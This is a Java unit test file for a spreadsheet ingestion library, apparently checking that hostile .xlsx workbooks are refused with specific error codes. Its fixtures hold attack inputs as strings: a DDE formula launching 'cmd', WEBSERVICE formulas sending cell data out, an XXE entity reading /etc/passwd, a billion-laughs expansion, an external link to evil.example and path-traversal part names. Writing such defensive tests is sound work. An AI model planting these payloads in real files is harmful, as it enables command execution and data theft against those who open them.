package org.rapporteur.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.rapporteur.ingest.Workbook.number;
import static org.rapporteur.ingest.Workbook.row;
import static org.rapporteur.ingest.Workbook.text;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Files made to do harm: each is refused with its own code, and the file beside it is still read.
class HostileFilesTest {

  @TempDir Path folder;

  @Test
  void theHonestWorkbookThatTheOthersAreMadeFromIsRead() {
    Read read = read(Workbook.honest());
    assertThat(read.codes()).isEmpty();
    assertThat(read.column("value")).containsExactly("22");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "xl/vbaProject.bin",
        "XL/VBAPROJECT.BIN",
        "innocent/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/ctrlProps/ctrlProp1.xml",
        "xl/macrosheets/sheet1.xml",
        "xl/queryTables/queryTable1.xml",
        "xl/connections.xml",
        "customUI/customUI14.xml"
      })
  void programsAndWaysOutAreRefusedByTheNameOfTheirPart(String part) {
    assertRefused(Workbook.honest().part(part, "x").bytes(), "S-003 part");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(\"http://example.org/?\"&amp;A2)",
        "webservice (A2)",
        "_xlfn.WEBSERVICE(A2)",
        "HYPERLINK(\"http://example.org\",\"22\")",
        "IMPORTDATA(\"http://example.org\")",
        "1+RTD(\"x\",,\"y\")",
        "cmd|'/c calc'!A1",
        "[1]Sheet1!A1",
        "'C:\\[other.xlsx]Sheet1'!A1"
      })
  void aFormulaThatReachesOutIsRefusedAtItsCell(String formula) {
    Workbook workbook = withFormula(formula);
    assertRefused(workbook.bytes(), "S-003 2 formula");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(C3:C4)",
        "C3+C4",
        "IF(A3=\"WEBSERVICE(x)\",1,2)",
        "Table1[Total]",
        "MYIMAGE(1)",
        "LEFT(\"a|b!c\",1)"
      })
  void anOrdinaryFormulaIsReadByItsStoredResult(String formula) {
    Read read = read(withFormula(formula));
    assertThat(read.codes()).isEmpty();
    assertThat(read.column("value")).containsExactly("22");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Type='x/vbaProject' Target='theme.bin'",
        "Type='x/externalLink' Target='theme.xml'",
        "Type='x/oleObject' Target='picture.png'",
        "Type='x/connections' Target='theme.xml'",
        "Type='http://schemas.microsoft.com/office/2006/relationships/ui/extensibility' Target='a.xml'",
        "Type='x/image' Target='http://evil.example/pixel.png' TargetMode='External'",
        "Type='x/image' Target='file:///etc/passwd' TargetMode='external'"
      })
  void programsAndWaysOutAreRefusedByTheirRelationWhateverTheNameOfTheirPart(String relation) {
    assertRefused(related(relation).bytes(), "S-003 part");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Type='x/hyperlink' Target='https://police.example.org/' TargetMode='External'",
        "Type='x/image' Target='../media/image1.png'",
        "Type='x/comments' Target='../comments1.xml'",
        "Type='x/printerSettings' Target='../printerSettings/printerSettings1.bin'"
      })
  void linksForAReaderAndWhatIsShownAreLetThrough(String relation) {
    Read read = read(related(relation));
    assertThat(read.codes()).isEmpty();
    assertThat(read.column("value")).containsExactly("22");
  }

  private static Workbook related(String relation) {
    return Workbook.honest()
        .part(
            "xl/worksheets/_rels/sheet1.xml.rels",
            "<Relationships><Relationship Id='r1' " + relation + "/></Relationships>");
  }

  @Test
  void aDocumentTypeIsRefusedWhateverItDeclares() {
    String outside = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>";
    String laughs =
        "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>";
    for (String declaration : new String[] {outside, laughs, "<!DOCTYPE x>"}) {
      String sheet =
          declaration
              + "<worksheet><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&c;</t></is></c></row>"
              + "</sheetData></worksheet>";
      assertRefused(
          Workbook.honest().part("xl/worksheets/sheet1.xml", sheet).bytes(), "S-005 doctype");
      assertRefused(
          Workbook.honest().part("xl/sharedStrings.xml", declaration + "<sst/>").bytes(),
          "S-005 doctype");
    }
    byte[] wide = "<!DOCTYPE x><sst/>".getBytes(StandardCharsets.UTF_16);
    assertRefused(Workbook.honest().part("xl/sharedStrings.xml", wide).bytes(), "S-005 doctype");
  }

  @ParameterizedTest
  @ValueSource(strings = {"../evil.xml", "xl/../../evil.xml"})
  void aPartThatClimbsIsRefused(String name) {
    assertRefused(Workbook.honest().part(name, "x").bytes(), "S-005 climbs");
  }

  @Test
  void absoluteAndBackslashedPartsAreRefused() {
    assertRefused(Workbook.honest().part("/etc/passwd", "x").bytes(), "S-005 absolute");
    assertRefused(Workbook.honest().part("C:/evil.xml", "x").bytes(), "S-005 absolute");
    assertRefused(Workbook.honest().part("xl\\evil.xml", "x").bytes(), "S-005 backslash");
  }

  @Test
  void aPartThatStandsTwiceIsRefused() {
    assertRefused(Workbook.honest().part("XL/Workbook.xml", "x").bytes(), "S-005 twice");
    // The same name to the letter: written under another of the same length, then renamed.
    byte[] content = Workbook.honest().part("xl/workbooq.xml", "x").bytes();
    assertRefused(renamed(content, "xl/workbooq.xml", "xl/workbook.xml"), "S-005 twice");
  }

  @Test
  void aCellOrARowThatStandsTwiceOrOutOfOrderIsRefused() {
    String cell = number("C", 2, "7");
    assertRefused(Workbook.of(row(2, cell, cell)).bytes(), "S-005 order");
    assertRefused(Workbook.of(row(2, cell, text("A", 2, "x"))).bytes(), "S-005 order");
    assertRefused(Workbook.of(row(2, cell) + row(2, cell)).bytes(), "S-005 order");
    assertRefused(Workbook.of(row(3, cell) + row(2, cell)).bytes(), "S-005 order");
    assertRefused(Workbook.of("<row r='2'><c r='2A'/></row>").bytes(), "S-001 xml");
  }

  @Test
  void emptyTruncatedAndEncryptedFilesCannotBeOpened() {
    byte[] whole = Workbook.honest().bytes();
    assertRefused(new byte[0], "S-001 empty");
    assertRefused(Arrays.copyOf(whole, whole.length / 2), "S-001 truncated");
    byte[] encrypted = new byte[4096];
    System.arraycopy(ole(), 0, encrypted, 0, 8);
    byte[] name = "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE);
    System.arraycopy(name, 0, encrypted, 1024, name.length);
    assertRefused(encrypted, "S-001 encrypted");
  }

  @Test
  void contentThatIsNoWorkbookIsRefused() {
    assertRefused("indicator,period\n".getBytes(StandardCharsets.UTF_8), "S-002");
    assertRefused(Arrays.copyOf(ole(), 4096), "S-002");
    assertRefused("%PDF-1.7".getBytes(StandardCharsets.US_ASCII), "S-002");
    byte[] document = Workbook.honest().bytes();
    assertRefused(renamed(document, "xl/workbook.xml", "wd/workbook.xml"), "S-002");
  }

  @Test
  void aPartThatIsNotWellFormedIsRefused() {
    assertRefused(
        Workbook.honest().part("xl/worksheets/sheet1.xml", "<worksheet><sheetData>").bytes(),
        "S-001 xml");
    assertRefused(
        Workbook.of("<row r='2'><c r='A2' t='s'><v>99</v></c></row>").bytes(), "S-001 xml");
    assertRefused(Workbook.of("<row r='-1'/>").bytes(), "S-001 xml");
    assertRefused(
        Workbook.of("<row r='2'><c r='A2'><v>1e999999999</v></c></row>").bytes(), "S-001 xml");
  }

  private void assertRefused(byte[] content, String code) {
    Read.assertRefused(folder, content, code);
  }

  private Read read(Workbook workbook) {
    return Read.file(folder, "f.xlsx", workbook.bytes());
  }

  private static Workbook withFormula(String formula) {
    return Workbook.of(row(2, text("A", 2, "x"), "<c r='C2'><f>" + formula + "</f><v>22</v></c>"));
  }

  private static byte[] ole() {
    return new byte[] {
      (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
    };
  }

  /// Replaces a name by another of the same length, in local headers and directory alike.
  private static byte[] renamed(byte[] zip, String from, String to) {
    String text = new String(zip, StandardCharsets.ISO_8859_1);
    return text.replace(from, to).getBytes(StandardCharsets.ISO_8859_1);
  }
}
